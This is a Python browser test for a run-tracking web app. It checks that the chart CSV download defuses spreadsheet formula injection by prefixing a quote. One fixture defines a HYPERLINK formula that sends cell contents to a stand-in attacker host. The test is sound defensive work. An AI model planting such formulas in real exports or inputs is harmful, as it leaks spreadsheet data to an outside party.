"""The web page's chart download never starts a formula: an overlay of a run named ``=HYPERLINK(…)`` downloads a
CSV whose header cell for that run's line starts with a single quote, its numbers as they are."""

from __future__ import annotations

import csv
import io

import pytest

from leyline import Metrics, RunStarted
from tests.support.web import Feed, open_page

pytestmark = pytest.mark.single_backend

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_charts_csv_download_prefixes_a_formula(browser, server_url, tmp_path):
    for run_id, name in (("fa", FORMULA), ("fb", "plain")):
        with Feed(server_url, run_id) as feed:
            feed._call(feed._send([feed._event(RunStarted(name=name, config={}), 0)]))
            feed.send([(Metrics(values={"loss": -1.5 + i}), i, None) for i in range(3)])
    page, outside, errors = open_page(browser, server_url)
    page.goto(server_url + "/ui#run=fa&overlay=fb")
    chart = page.locator('.chart[data-title="loss"]')
    chart.wait_for()
    page.wait_for_function("() => document.querySelector('.chart[data-title=\"loss\"] canvas') !== null")
    with page.expect_download() as download:
        chart.locator("button", has_text="csv").click()
    path = tmp_path / "chart.csv"
    download.value.save_as(path)
    head, *rows = list(csv.reader(io.StringIO(path.read_text())))
    assert head[0] == "step" and any(cell.startswith("'" + FORMULA) for cell in head), head
    assert not any(cell.startswith(("=", "+", "@")) for cell in head)
    assert rows and any(cell == "-1.5" for row in rows for cell in row), rows
    assert not outside and not errors
    page.close()
